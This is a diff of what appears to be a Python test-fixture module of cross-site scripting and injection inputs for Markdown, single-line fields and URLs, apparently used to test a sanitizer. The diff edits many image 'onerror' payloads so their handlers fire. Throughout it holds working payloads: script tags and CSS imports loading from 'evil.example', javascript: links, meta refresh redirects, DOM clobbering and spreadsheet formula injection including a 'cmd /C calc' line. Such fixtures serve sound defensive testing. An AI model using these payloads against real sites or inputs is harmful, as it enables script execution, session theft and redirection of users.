@@ -1,6 +1,7 @@
 """What an attacker, or a careless paste, would write: in every position of Markdown and YAML.
 
-Each calls `alert(1)`, sends to `evil.example`, or takes the name of an element of ours.
+Each calls `alert(1)`, sends to `evil.example`, or takes the name of an element of ours. A picture
+of `#` is refused by no check of links, and fails to load as any other: its handler would be called.
 """
 
 from __future__ import annotations
@@ -39,7 +40,7 @@ MARKDOWN = {
     ),
     "reference": "[x][1]\n\n[1]: javascript:alert(1)",
     "reference with a title": (
-        '[x][1]\n\n[1]: https://exemple.example "\'><img src=x onerror=alert(1)>"'
+        '[x][1]\n\n[1]: https://exemple.example "\'><img src=# onerror=alert(1)>"'
     ),
     "autolink": "<javascript:alert(1)>",
     "autolink to data": "<data:text/html,<script>alert(1)</script>>",
@@ -53,33 +54,33 @@ MARKDOWN = {
     "image with attributes": "![x](x.png){: onerror=alert(1) srcset=https://evil.example/x }",
     "heading with an id": "## Titre {: #search onclick=alert(1) }",
     "heading named as a script's own": "## search",
-    "heading with a tag": "## <img src=x onerror=alert(1)>",
-    "footnote": "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
-    "footnote named": 'x[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: y',
-    "abbreviation": 'HTML\n\n*[HTML]: "><img src=x onerror=alert(1)>',
-    "definition": "<img src=x onerror=alert(1)>\n:   y",
+    "heading with a tag": "## <img src=# onerror=alert(1)>",
+    "footnote": "x[^1]\n\n[^1]: <img src=# onerror=alert(1)>",
+    "footnote named": 'x[^"><img src=# onerror=alert(1)>]\n\n[^"><img src=# onerror=alert(1)>]: y',
+    "abbreviation": 'HTML\n\n*[HTML]: "><img src=# onerror=alert(1)>',
+    "definition": "<img src=# onerror=alert(1)>\n:   y",
     "table": (
-        "| <img src=x onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | d |"
+        "| <img src=# onerror=alert(1)> | b |\n| --- | --- |\n| [x](javascript:alert(1)) | d |"
     ),
-    "code": "`<img src=x onerror=alert(1)>`",
+    "code": "`<img src=# onerror=alert(1)>`",
     "fence": '```html onload=alert(1) "><script>alert(1)</script>\n<script>alert(1)</script>\n```',
-    "quotation": "> <img src=x onerror=alert(1)>\n> — <img src=x onerror=alert(1)>",
+    "quotation": "> <img src=# onerror=alert(1)>\n> — <img src=# onerror=alert(1)>",
     "script": "<script>alert(1)</script>",
     "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
     "script broken": "<scr<script>ipt>alert(1)</scr</script>ipt>",
     "script with a slash": "<script/x>alert(1)</script\t\n>",
     "script as a module": '<script type="module">import("https://evil.example/x.js")</script>',
     "script in a paragraph": "avant <script>alert(1)</script> après",
-    "script's end": "</script><img src=x onerror=alert(1)>",
+    "script's end": "</script><img src=# onerror=alert(1)>",
     "title's end": "</title><script>alert(1)</script>",
-    "textarea's end": "</textarea><img src=x onerror=alert(1)>",
-    "comment": "<!--><img src=x onerror=alert(1)>-->",
-    "comment with a dash": "<!-- --!><img src=x onerror=alert(1)> -->",
-    "CDATA": "<![CDATA[><img src=x onerror=alert(1)>]]>",
-    "processing instruction": "<?x ><img src=x onerror=alert(1)>?>",
+    "textarea's end": "</textarea><img src=# onerror=alert(1)>",
+    "comment": "<!--><img src=# onerror=alert(1)>-->",
+    "comment with a dash": "<!-- --!><img src=# onerror=alert(1)> -->",
+    "CDATA": "<![CDATA[><img src=# onerror=alert(1)>]]>",
+    "processing instruction": "<?x ><img src=# onerror=alert(1)>?>",
     "doctype": "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>",
-    "picture": "<img src=x onerror=alert(1)>",
-    "picture unclosed": "<img src=x onerror=alert(1)//",
+    "picture": "<img src=# onerror=alert(1)>",
+    "picture unclosed": "<img src=# onerror=alert(1)//",
     "picture with slashes": "<img/src=x/onerror=alert(1)>",
     "picture with backquotes": "<img src=`x`onerror=alert(1)>",
     "picture with line ends": "<img\nsrc=x\nonerror\n=\nalert(1)>",
@@ -95,20 +96,20 @@ MARKDOWN = {
     "svg": "<svg onload=alert(1)></svg>",
     "svg with a script": "<svg><script>alert(1)</script></svg>",
     "svg with a foreign object": (
-        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"
+        "<svg><foreignObject><img src=# onerror=alert(1)></foreignObject></svg>"
     ),
     "svg that animates": (
         "<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>"
     ),
     "svg that uses": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
-    "svg with a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "svg with a style": "<svg><style><img src=# onerror=alert(1)></style></svg>",
     "mathematics": (
-        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>"
+        "<math><mtext><table><mglyph><style><img src=# onerror=alert(1)></style></table></math>"
     ),
     "mathematics with a link": '<math href="javascript:alert(1)">x</math>',
     "mathematics with a wrapper": (
         "<math><annotation-xml encoding=text/html><img "
-        "src=x onerror=alert(1)></annotation-xml></math>"
+        "src=# onerror=alert(1)></annotation-xml></math>"
     ),
     "style": "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
     "style attribute": '<p style="background: url(https://evil.example/x)">x</p>',
@@ -118,7 +119,7 @@ MARKDOWN = {
         "<div><template shadowrootmode=open><script>alert(1)</script></template></div>"
     ),
     "slot": "<slot onslotchange=alert(1)></slot>",
-    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    "noscript": '<noscript><p title="</noscript><img src=# onerror=alert(1)>"></noscript>',
     "refresh": '<meta http-equiv=refresh content="0;url=https://evil.example/">',
     "refresh to script": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
     "policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
@@ -135,7 +136,7 @@ MARKDOWN = {
     "embedded": '<embed src="javascript:alert(1)">',
     "applet": '<applet code="x" codebase="https://evil.example/"></applet>',
     "video": "<video><source onerror=alert(1) src=x></video>",
-    "sound": "<audio src=x onerror=alert(1) autoplay></audio>",
+    "sound": "<audio src=# onerror=alert(1) autoplay></audio>",
     "details": "<details open ontoggle=alert(1)><summary>x</summary></details>",
     "dialog": (
         '<dialog open id=search data-worker="https://evil.example/x.js"><input name=q></dialog>'
@@ -152,24 +153,24 @@ MARKDOWN = {
     "template of another": "{{ 7 * 7 }} {% raw %} ${alert(1)} <%= alert(1) %>",
     "line separator": "x\u2028<img src=x\u2028onerror=alert(1)>\u2029",
     "null": "<scr\x00ipt>alert(1)</script>",
-    "half a tag": "<img src=x onerror=alert(1) x='",
+    "half a tag": "<img src=# onerror=alert(1) x='",
     "wide signs": "＜script＞alert(1)＜/script＞",
-    "depth": "<div>" * 300 + "<img src=x onerror=alert(1)>",
+    "depth": "<div>" * 300 + "<img src=# onerror=alert(1)>",
     "isolate": "\u202e<script>alert(1)</script>\u202c",
 }
 
 # What a one-line field may be made to hold.
 LINES = {
-    "tag": "<img src=x onerror=alert(1)>",
+    "tag": "<img src=# onerror=alert(1)>",
     "script": "</script><script>alert(1)</script>",
-    "title": "</title><img src=x onerror=alert(1)>",
+    "title": "</title><img src=# onerror=alert(1)>",
     "double quote": '" onmouseover="alert(1)" x="',
     "single quote": "' onmouseover='alert(1)' x='",
-    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
+    "entities": "&lt;img src=# onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
     "comment": "--><script>alert(1)</script><!--",
     "CDATA": "]]><script>alert(1)</script>",
     "braces": "{{ config }} {% include 'x' %} ${alert(1)}",
-    "slashes": '\\u003cimg src=x onerror=alert(1)\\u003e \\"alert(1)',
+    "slashes": '\\u003cimg src=# onerror=alert(1)\\u003e \\"alert(1)',
     "formula": '=HYPERLINK("https://evil.example";"x")',
     "formula with a plus": "+alert(1)",
     "formula with an at": "@SUM(1)*cmd|' /C calc'!A0",
@@ -189,6 +190,6 @@ ADDRESSES = {
     "no scheme": "//evil.example/x",
     "quote": 'https://exemple.example/"onmouseover="alert(1)',
     "tag": "https://exemple.example/<script>alert(1)</script>",
-    "fragment": "https://exemple.example/#'><img src=x onerror=alert(1)>",
+    "fragment": "https://exemple.example/#'><img src=# onerror=alert(1)>",
     "host": 'https://exemple.example"onclick=alert(1)/',
 }
